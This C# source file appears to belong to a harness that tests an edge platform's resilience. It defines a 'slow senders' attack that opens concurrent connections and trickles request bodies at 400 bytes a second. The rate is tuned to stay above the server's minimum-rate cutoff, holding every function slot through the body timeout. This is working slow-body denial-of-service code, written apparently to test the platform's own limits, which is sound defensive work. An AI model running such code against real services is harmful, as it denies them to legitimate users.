using System.Diagnostics;
using System.Text;
using EdgeAttacks.Clients;
using EdgeAttacks.Hosts;

namespace EdgeAttacks.Attacks;

/// <summary>Clients that send 400 bytes of a body a second, for as long as they may.</summary>
/// <param name="id">What an option names it by.</param>
/// <param name="title">The heading of its table.</param>
/// <param name="description">What it does, in a sentence.</param>
/// <param name="path">What they call.</param>
/// <param name="announcedBytes">The length that they announce; null sends chunks.</param>
internal sealed class SlowSenders(string id, string title, string description, string path, int? announcedBytes)
    : Attack(id, title, description, size: 10)
{
    // As many as there are places in a project: MAX_CONCURRENT is 10.
    public static readonly string Invoke = EdgeHost.InvokePath(EdgeHost.Attacked, "measure");
    public static readonly string Http = $"/fn/{EdgeHost.Attacked}/sink/";

    private const int BytesASecond = 400;

    private static readonly TimeSpan CheckInterval = TimeSpan.FromMilliseconds(500);

    // One string that does not end, so that a function which parses it as it comes has no reason to refuse it.
    private static readonly byte[] Part = Encoding.ASCII.GetBytes(new string('x', BytesASecond));
    private static readonly byte[] Chunk = [.. Encoding.ASCII.GetBytes($"{BytesASecond:X}\r\n"), .. Part, .. "\r\n"u8];

    public override bool IsQuiet => true;

    // Over two minutes that is enough calls to judge by, and twelve hosts at once are not what keeps this machine busy.
    public override TimeSpan CallInterval => TimeSpan.FromMilliseconds(500);

    // BODY_TIMEOUT is 120 s, counted from when the body begins.
    public override TimeSpan Window => TimeSpan.FromSeconds(140);

    public override async Task RunAsync(AttackScene scene, CancellationToken cancellationToken)
    {
        var clients = new List<Task>();
        await scene.ConnectAsync(
            async (connection, _, token) =>
            {
                await connection.TrySendAsync(RawRequest.Post(path, announcedBytes), token);
                await connection.TrySendAsync(announcedBytes is null ? "1\r\n\"\r\n"u8.ToArray() : "\""u8.ToArray(), token);
                lock (clients)
                {
                    clients.Add(TrickleAsync(connection, cancellationToken));
                }
            },
            cancellationToken);
        await Task.WhenAll(clients);
        await AttackScene.HoldAsync(cancellationToken);
    }

    private async Task TrickleAsync(AttackConnection connection, CancellationToken cancellationToken)
    {
        var began = Stopwatch.GetTimestamp();
        using var timer = new PeriodicTimer(CheckInterval);
        var sent = 0;
        do
        {
            // As much as is due, however late this is: Kestrel cuts what comes at less than 240 bytes a second.
            for (; sent <= Stopwatch.GetElapsedTime(began).TotalSeconds; sent++)
            {
                if (!await connection.TrySendAsync(announcedBytes is null ? Chunk : Part, cancellationToken))
                {
                    return;
                }
            }
        }
        while (await timer.WaitForNextTickAsync(cancellationToken) && connection.CutAfter is null);
    }
}
